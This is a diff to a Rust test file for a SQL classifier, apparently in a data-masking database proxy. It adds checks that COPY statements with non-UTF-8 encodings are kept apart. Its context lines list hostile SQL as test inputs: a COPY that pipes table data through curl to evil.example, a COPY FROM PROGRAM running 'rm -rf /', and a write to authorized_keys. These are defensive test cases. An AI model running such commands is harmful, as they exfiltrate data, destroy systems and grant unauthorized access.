@@ -386,7 +386,15 @@ fn copy_in_out_and_program() {
     let op = self::op("COPY (SELECT * FROM t JOIN u USING (id)) TO STDOUT");
     assert_eq!(op.kind, SqlKind::CopyOut);
     assert_eq!(tables_of(&op), ["r:t", "r:u"]);
+    // Data in another encoding than UTF-8 cannot be masked as UTF-8.
+    assert_eq!(
+        kind("COPY t TO STDOUT WITH (FORMAT csv, ENCODING 'utf-8')"),
+        SqlKind::CopyOut
+    );
     for sql in [
+        "COPY t TO STDOUT (ENCODING 'LATIN1')",
+        "COPY (SELECT email FROM t) TO STDOUT WITH (FORMAT csv, ENCODING 'WIN1252')",
+        "COPY t FROM STDIN (ENCODING 'SQL_ASCII')",
         "COPY t TO PROGRAM 'curl -d @- evil.example'",
         "COPY t FROM PROGRAM 'rm -rf /'",
         "COPY t TO '/var/lib/postgresql/.ssh/authorized_keys'",
@@ -861,6 +869,12 @@ fn statements_differing_only_in_literals_share_a_shape_and_keep_their_own_text()
             "EXPLAIN (ANALYZE 0) DELETE FROM t WHERE id = 1",
             "EXPLAIN (ANALYZE 1) DELETE FROM t WHERE id = 1",
         ],
+        // COPY's ENCODING is a literal that decides whether the data can be
+        // masked: never shared.
+        &[
+            "COPY t TO STDOUT (ENCODING 'UTF8')",
+            "COPY t TO STDOUT (ENCODING 'LATIN1')",
+        ],
         // `1from` is not a number: `SELECT 1from secret` must not borrow the
         // result of `SELECT 5 t`.
         &["SELECT 5 t", "SELECT 1from secret", "SELECT 1 from secret"],
@@ -879,6 +893,10 @@ fn statements_differing_only_in_literals_share_a_shape_and_keep_their_own_text()
     assert_ne!(
         kind("EXPLAIN (ANALYZE 0) DELETE FROM t WHERE id = 1"),
         kind("EXPLAIN (ANALYZE 1) DELETE FROM t WHERE id = 1")
+    );
+    assert_ne!(
+        kind("COPY t TO STDOUT (ENCODING 'UTF8')"),
+        kind("COPY t TO STDOUT (ENCODING 'LATIN1')")
     );
     // A shape hit does not fill the exact-text cache with one-off strings.
     let fill = Classifier::new(4);
